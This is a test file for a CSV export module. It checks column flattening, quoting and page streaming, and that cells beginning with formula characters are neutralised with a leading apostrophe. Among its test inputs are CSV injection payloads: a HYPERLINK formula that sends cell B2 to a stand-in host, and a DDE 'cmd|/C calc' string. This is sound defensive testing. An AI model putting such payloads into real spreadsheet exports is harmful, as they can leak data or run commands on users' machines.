import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, csvPages, toCsv } from '../../src/api/csv.js';

describe('CSV of read-model rows', () => {
  it('flattens nested objects to dotted columns and joins lists, quoting every field', () => {
    const csv = toCsv([
      { decision: 'rc-board', window: { opens: '2007-03-19', closes: '2007-03-19' }, topics: ['capacity', 'anchors'], told: true },
      { decision: 'cog, 2016', window: { opens: '2016-01-18' }, topics: [], told: false, note: 'said "ask once"' },
    ]);
    expect(csv.split('\n')).toEqual([
      '"decision","window.opens","window.closes","topics","told","note"',
      '"rc-board","2007-03-19","2007-03-19","capacity; anchors","true",""',
      '"cog, 2016","2016-01-18","","","false","said ""ask once"""',
      '',
    ]);
    // What a CSV reader makes of it: the values as they were.
    expect(parse(csv, { columns: true })).toEqual([
      { decision: 'rc-board', 'window.opens': '2007-03-19', 'window.closes': '2007-03-19', topics: 'capacity; anchors', told: 'true', note: '' },
      { decision: 'cog, 2016', 'window.opens': '2016-01-18', 'window.closes': '', topics: '', told: 'false', note: 'said "ask once"' },
    ]);
  });
});

describe('a CSV cell a spreadsheet could run as a formula', () => {
  it('gets a leading apostrophe when text starts with =, +, -, @, a tab or a carriage return', () => {
    expect(csvField('=HYPERLINK("http://x/?"&B2,"open")')).toBe(`"'=HYPERLINK(""http://x/?""&B2,""open"")"`);
    expect(csvField('+1+cmd|/C calc!A0')).toBe(`"'+1+cmd|/C calc!A0"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('＝1+1')).toBe(`"'＝1+1"`);
  });

  it('leaves a number as a number: -12 stays -12, while the text "-12" becomes \'-12', () => {
    expect(csvField(-12)).toBe('"-12"');
    expect(csvField(0.5)).toBe('"0.5"');
    expect(csvField('-12')).toBe(`"'-12"`);
  });

  it('leaves other text alone, with formula characters anywhere but first', () => {
    expect(csvField('Halton 2013 = consulted')).toBe('"Halton 2013 = consulted"');
    expect(csvField('e-mail me @ home')).toBe('"e-mail me @ home"');
    expect(csvField(' =1+1')).toBe('" =1+1"');
    expect(csvField('')).toBe('""');
    expect(csvField(null)).toBe('""');
    expect(csvField(true)).toBe('"true"');
  });

  it('neutralises column names too, and list cells whose first item is formula-like', () => {
    const csv = toCsv([{ '=cmd': 1, topics: ['=1+1', 'parks'] }]);
    expect(csv).toBe(`"'=cmd","topics"\n"1","'=1+1; parks"\n`);
  });

  it('quotes every field of a line, so a reader never guesses where a cell ends', () => {
    expect(csvLine(['a', 'b,c', 'd\ne', 3])).toBe('"a","b,c","d\ne","3"\n');
    expect(parse(csvLine(['a', 'b,c', 'd\ne', 3]))).toEqual([['a', 'b,c', 'd\ne', '3']]);
  });

  it('writes pages one after another under one header, the first rows’ columns, skipping empty pages', async () => {
    async function* pages() {
      yield { rows: [] };
      yield { rows: [{ id: 'a', window: { opens: '2013-01-01' } }, { id: 'b', window: { opens: '2013-02-01' } }] };
      yield { rows: [] };
      yield { rows: [{ id: 'c, d', window: { opens: '2013-03-01' } }] };
    }
    const chunks: string[] = [];
    for await (const chunk of csvPages(pages())) chunks.push(chunk);
    expect(chunks).toHaveLength(2);
    expect(chunks.join('').split('\n')).toEqual(['"id","window.opens"', '"a","2013-01-01"', '"b","2013-02-01"', '"c, d","2013-03-01"', '']);
  });
});
